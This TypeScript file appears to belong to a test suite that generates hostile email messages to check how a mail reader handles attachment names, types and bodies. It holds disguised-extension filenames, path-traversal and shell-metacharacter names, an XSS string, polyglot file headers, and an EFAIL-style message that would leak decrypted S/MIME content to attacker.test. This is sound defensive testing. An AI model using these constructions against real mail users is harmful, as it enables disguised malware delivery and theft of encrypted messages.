/** Catalogue section G (names and types of attachments), and the rows of K and M that the reader decides. */
import { type Canary, createCanary, createPayload } from "./canary.ts";
import { CRLF, innocent, mail, part, parts, perCanary, type Row, scaled } from "./compose.ts";
import { file, type HostileFile, type Wish } from "./file.ts";

/** The canary as an attachment with these parameters on its type and disposition. */
function attached(canary: Canary, type: string, disposition: string): string {
  const fields = [
    `Content-Type: application/octet-stream${type}`,
    `Content-Transfer-Encoding: ${canary.encoding}`,
    `Content-Disposition: attachment${disposition}`,
  ];
  return mail(
    ["Content-Type: multipart/mixed; boundary=b"],
    parts("b", innocent, [...fields, "", canary.encoded].join(CRLF)),
  );
}

function named(
  name: string,
  canary: Canary,
  [type, disposition]: readonly [type: string, disposition: string],
  wish: Wish,
): HostileFile {
  return file(name, attached(canary, type, disposition), { contents: [canary.payload.bytes], ...wish });
}

const namings: Row = {
  id: "HM-110",
  title: "several names for one file",
  make: (kit) =>
    perCanary(kit, (canary) => {
      const pieces = (count: number) => Array.from({ length: count }, (_, n) => `; filename*${n}=${n % 10}`).join("");
      const word = "=?utf-8?B?ZC5leGU=?=";
      const cases: readonly (readonly [type: string, disposition: string, names: readonly string[]])[] = [
        ['; name="a.pdf"', '; filename="b.exe"', ["a.pdf", "b.exe"]],
        ['; name="a.exe"', '; filename="b.pdf"', ["a.exe", "b.pdf"]],
        ["", "; filename=\"a.pdf\"; filename*=utf-8''c.exe", ["a.pdf", "c.exe"]],
        ["", "; filename*=utf-8''c.exe; filename=\"a.pdf\"", ["a.pdf", "c.exe"]],
        ['; name="a.pdf"', `; filename="${word}"`, ["a.pdf", "d.exe"]],
        ["", `; filename=${word}`, ["d.exe"]],
        ['; name="a.pdf"', `; filename="${word}"; filename*=utf-8''c.scr`, ["a.pdf", "d.exe", "c.scr"]],
        ["", '; filename="a.pdf"; filename="b.exe"', ["a.pdf", "b.exe"]],
        ['; name="a.pdf"; name="b.exe"', "", ["a.pdf", "b.exe"]],
        ["", "; filename*1=.exe; filename*0=a", ["a.exe"]],
        ["", "; filename*0=a; filename*2=.exe", []],
        ["", "; filename*1=b.exe", []],
        ["", "; filename*0*=utf-8''a; filename*1=.exe", ["a.exe"]],
        ["", "; filename*0*=utf-8''a%2e; filename*1*=exe", ["a.exe"]],
        ["", "; filename*0=a; filename*0=b; filename*1=.exe", ["a.exe"]],
        ["", "; filename=a.pdf.exe x", []],
        ["", "; filename=two words.exe", ["two words.exe"]],
        ["", '; filename="a.exe', ["a.exe"]],
        ["", "; filename='a.exe'", []],
        ["", "; FileName=a.exe", ["a.exe"]],
        ["", " filename=a.exe", ["a.exe"]],
        ["", "; filename =a.exe", ["a.exe"]],
        ["", `; filename="a${CRLF} b.exe"`, []],
        ["", `${pieces(scaled(kit, 10_000, 600))}`, []],
        ["", "", []],
      ];
      return cases.map(([type, disposition, names], index) =>
        named(`${index}: ${`${type} ${disposition}`.slice(0, 60)}`, canary, [type, disposition], {
          names,
          // The most dangerous name decides: beside a document's name a program's is a disguise.
          flags: new Set(names.map((name) => name.endsWith(".pdf"))).size > 1 ? ["disguised-extension"] : [],
        }),
      );
    }),
};

const utf8 = (text: string) => Buffer.from(text, "utf8").toString("latin1");

/** Names, and what of them must be among the claimed ones. */
function nameRow(id: string, title: string, names: readonly string[], wish: Wish): Row {
  return {
    id,
    title,
    make: (kit) => {
      const canary = createCanary(kit.random, "base64");
      return names.flatMap((name, index) => {
        const escaped = name.replaceAll("\\", "\\\\").replaceAll('"', '\\"');
        const extended = [...Buffer.from(name, "latin1")]
          .map((byte) => `%${byte.toString(16).padStart(2, "0")}`)
          .join("");
        return [
          named(`${index} quoted: ${name.slice(0, 40)}`, canary, ["", `; filename="${escaped}"`], wish),
          named(`${index} on the type: ${name.slice(0, 40)}`, canary, [`; name="${escaped}"`, ""], wish),
          named(`${index} extended: ${name.slice(0, 40)}`, canary, ["", `; filename*=utf-8''${extended}`], wish),
        ];
      });
    },
  };
}

const extensions = nameRow(
  "HM-111",
  "extensions in disguise",
  [
    "invoice.pdf.exe",
    `invoice.pdf${" ".repeat(200)}.exe`,
    utf8("invoice\u202efdp.exe"),
    "invoice.exe.",
    "invoice.exe ",
    "invoice.exe::$DATA",
    "a.exe\0.pdf",
    utf8("a.e\u200bxe"),
    utf8("a．exe"),
    "a.pdf\t.exe",
  ],
  // A file without any name is no disguise: half of all pictures in letters have none.
  { flags: ["disguised-extension"] },
);
const paths = nameRow(
  "HM-112",
  "paths and devices as names",
  [
    "../../x",
    "/etc/x",
    "C:\\x",
    "\\\\host.example\\share\\x",
    "CON",
    "aux.txt",
    "x".repeat(4_000),
    "",
    ".",
    "...",
    "<script>alert(1)</script>.txt",
    "\x1b[31mred.txt",
    "$(x).txt",
    "-rf",
    "a\nb.txt",
    "a;b.txt",
    "%2e%2e%2fx",
  ],
  {},
);

const ZIP = "PK\x03\x04\x14\0\0\0\x08\0PK\x05\x06";

/** Type, first bytes, and what is said of them; a file of which only junk stands before its mark is what it says. */
const magics: readonly (readonly [name: string, type: string, bytes: string, flags: readonly string[]])[] = [
  ["a program called a picture", "image/png", "MZ\x90\0\x03\0\0\0", ["type-mismatch"]],
  ["a zip called a text", "text/plain", "PK\x03\x04\x14\0\0\0\x08\0", ["type-mismatch"]],
  ["PDF after 1 KiB of junk", "application/octet-stream", `${"x".repeat(1_000)}%PDF-1.7\n`, []],
  ["HTML called a picture", "image/gif", "<html><script>1</script>", ["type-mismatch"]],
  ["PDF and zip", "application/pdf", `%PDF-1.7\n${ZIP}`, ["polyglot"]],
  ["GIF and script", "image/gif", "GIF89a=1;alert(1);//<script>", ["polyglot"]],
  ["JPEG and zip", "image/jpeg", `\xff\xd8\xff\xe0\0\x10JFIF\0${ZIP}`, ["polyglot"]],
  ["PNG and HTML", "image/png", "\x89PNG\r\n\x1a\n\0\0<html><body>", ["polyglot"]],
  ["HTML and PNG", 'text/html; name="a.html"', "<html><!--\x89PNG\r\n\x1a\n-->", ["polyglot"]],
  ["web archive called a document", 'application/msword; name="a.doc"', "MIME-Version: 1.0\r\n", ["polyglot"]],
  ["zip with data before it", "application/zip", `${"x".repeat(600)}${ZIP}`, ["polyglot"]],
];

const types: Row = {
  id: "HM-113",
  title: "type and content differ",
  make: (kit) => {
    const { payload } = createCanary(kit.random, "base64");
    return magics.map(([name, type, bytes, flags]) => {
      const content = Buffer.concat([Buffer.from(bytes, "latin1"), payload.bytes]);
      const text = mail([`Content-Type: ${type}`, "Content-Transfer-Encoding: base64"], content.toString("base64"));
      return file(name, text, { contents: [content], flags });
    });
  },
};

const dispositions: Row = {
  id: "HM-114",
  title: "dispositions",
  make: (kit) =>
    perCanary(kit, (canary) => {
      const cases = [
        "inline",
        "attachment",
        "x-unknown",
        "",
        "inline; attachment",
        "attachment, inline",
        "INLINE",
        '"attachment"',
        "attachment; size=0",
        "none; filename=a",
      ];
      return [
        ...cases.map((value) => part(canary).replace(/Content-Disposition: [^\r]*/, `Content-Disposition: ${value}`)),
        part(canary).replace(/Content-Disposition: [^\r]*\r\n/, ""),
      ].map((text, index) =>
        file(cases[index] ?? "none", mail(["Content-Type: multipart/mixed; boundary=b"], parts("b", innocent, text)), {
          canaries: [canary],
        }),
      );
    }),
};

const repeated: Row = {
  id: "HM-115",
  title: "the same file many times",
  make: (kit) =>
    perCanary(kit, (canary, fresh) => {
      const count = scaled(kit, 9_000, 40);
      const others = fresh();
      const one = ({
        views: { objects },
      }: {
        readonly views: { readonly objects: readonly { readonly bytes: Uint8Array }[] };
      }) => {
        const same = objects.filter(({ bytes }) => canary.payload.bytes.equals(bytes)).length;
        return same === 1 ? [] : [`${same} objects of the same content`];
      };
      const whole = (...list: readonly string[]) =>
        mail(["Content-Type: multipart/mixed; boundary=b"], parts("b", ...list));
      const rename = (name: string, which: Canary) => part(which).replaceAll("papers.", `${name}.`);
      return [
        file("same bytes", whole(...Array.from({ length: count }, () => part(canary))), {
          contents: [canary.payload.bytes],
          probe: one,
        }),
        file(
          "different names, same bytes",
          whole(...Array.from({ length: Math.min(count, 40) }, (_, n) => rename(`n${n}`, canary))),
          { contents: [canary.payload.bytes], probe: one },
        ),
        file("same name, different bytes", whole(part(canary), ...others.map((other) => part(other))), {
          canaries: [canary, ...others],
        }),
      ];
    }),
};

const completedByReader: Row = {
  id: "HM-186",
  title: "a link that the reader completes",
  make: (kit) => {
    const { payload } = createCanary(kit.random, "base64");
    const texts = [
      `Copy this and remove the space: http://files. example/${payload.marker}`,
      `http://files.example/\r\n${payload.marker}`,
      `hxxp://files[.]example/${payload.marker}`,
    ];
    return texts.map((text, index) =>
      file(`${index}`, mail(["Content-Type: text/plain"], text), { within: [payload.marker] }),
    );
  },
};

const efail: Row = {
  id: "HM-220",
  title: "EFAIL: one tag over several parts",
  make: (kit) =>
    ['"', "'", ""].flatMap((quote) =>
      ["text/html", "text/html; charset=utf-8"].map((type) => {
        const payload = createPayload(kit.random, "short");
        const html = (text: string) => `Content-Type: ${type}${CRLF}${CRLF}${text}`;
        const secret = `Content-Type: application/pkcs7-mime; smime-type=enveloped-data${CRLF}Content-Transfer-Encoding: base64${CRLF}${CRLF}${payload.bytes.toString("base64")}`;
        const text = mail(
          ["Content-Type: multipart/mixed; boundary=b"],
          parts("b", html(`<img src=${quote}http://attacker.test/`), secret, html(`${quote}>`)),
        );
        const leaks: Wish["probe"] = ({ record }) =>
          record.loads
            .filter(({ url }) => url.includes(payload.marker) || url.includes("--b"))
            .map(({ url }) => `parts were joined: ${url.slice(0, 60)}`);
        return file(`${quote || "no quote"}, ${type}`, text, {
          contents: [payload.bytes],
          flags: ["efail-shape"],
          probe: leaks,
        });
      }),
    ),
};

export const nameRows: readonly Row[] = [namings, extensions, paths, types, dispositions, repeated];
export const bodyRows: readonly Row[] = [completedByReader, efail];
